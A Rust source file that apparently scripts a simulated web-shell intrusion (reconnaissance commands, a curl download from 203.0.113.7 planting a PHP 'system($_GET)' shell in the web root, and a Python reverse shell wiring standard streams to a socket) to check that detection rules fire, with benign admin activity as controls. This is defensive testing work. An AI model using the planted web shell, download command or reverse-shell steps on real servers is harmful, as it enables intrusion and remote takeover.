//! A web shell behind a web server: the first command, a look around, the next stage fetched, a shell for the intruder.

use crate::{Host, Process, Program};

pub(super) fn tell(host: &Host) {
    let nginx = host.listening(Program::line("nginx: master process").at("/usr/sbin/nginx"), 80);
    let php = host.service("/usr/sbin/php-fpm8.2 --nodaemonize");
    let admin = host.login(0);
    php.setuid(33);
    let connection = nginx.accept("203.0.113.7:50122", 80);
    php.reads("/var/www/html/upload.php");
    first_commands(host, &php, &admin);
    next_stage(host, &php, &admin);
    reverse_shell(host, &php);
    quiet_streams(host, &admin);
    nginx.close(connection);
}

fn first_commands(host: &Host, php: &Process, admin: &Process) {
    let mut shell = None;
    host.fires("Shell spawned by server program", || shell = Some(php.run("sh -c 'id; uname -a'")));
    if let Some(shell) = shell {
        host.fires("System surveyed below server program", || {
            shell.runs("id");
            shell.runs("uname -a");
        });
        shell.exit();
    }
    host.spares("System surveyed below server program", || admin.runs("id"));
    let postgres = host.service("/usr/lib/postgresql/17/bin/postgres -D /var/lib/postgresql/17/main");
    host.spares("Shell spawned by server program", || {
        postgres.runs("sh -c 'pg_archivecleanup /var/lib/postgresql/wal 000000010000000000000042'");
    });
}

fn next_stage(host: &Host, php: &Process, admin: &Process) {
    let mut shell = None;
    host.fires_all(&["Download started below server program", "Shell spawned by server program"], || {
        let child = php.run("sh -c 'curl -so /var/www/html/img/a.php http://203.0.113.7/a'");
        let curl = child.run("curl -so /var/www/html/img/a.php http://203.0.113.7/a");
        curl.talks_to(38210, "203.0.113.7:80");
        curl.writes("/var/www/html/img/a.php", "<?php system($_GET['c']);");
        curl.exit();
        shell = Some(child);
    });
    if let Some(shell) = shell {
        shell.exit();
    }
    host.spares("Download started below server program", || {
        let curl = admin.run("curl -sO https://downloads.example.org/site.tar.gz");
        curl.talks_to(38212, "198.51.100.80:443");
        curl.exit();
    });
}

fn reverse_shell(host: &Host, php: &Process) {
    let mut python = None;
    host.fires("Shell spawned by server program", || {
        python = Some(php.run("sh -c 'python3 /tmp/a.py'").run("python3 /tmp/a.py"));
    });
    let Some(python) = python else { return };
    let socket = python.connect(41544, "203.0.113.7:4433");
    host.fires("Standard stream moved onto network socket", || {
        for stream in 0..3 {
            python.dup2(socket, stream);
        }
    });
    host.fires("Shell connected to network socket", || python.exec("/bin/sh -i"));
}

fn quiet_streams(host: &Host, admin: &Process) {
    let shell = admin.run("bash backup.sh");
    let log = shell.open("/tmp/backup.log", crate::files::open::WRONLY);
    host.spares("Standard stream moved onto network socket", || shell.dup2(log, 1));
    host.spares("Shell connected to network socket", || shell.runs("sh -c 'tar cf /backup/home.tar /home'"));
}
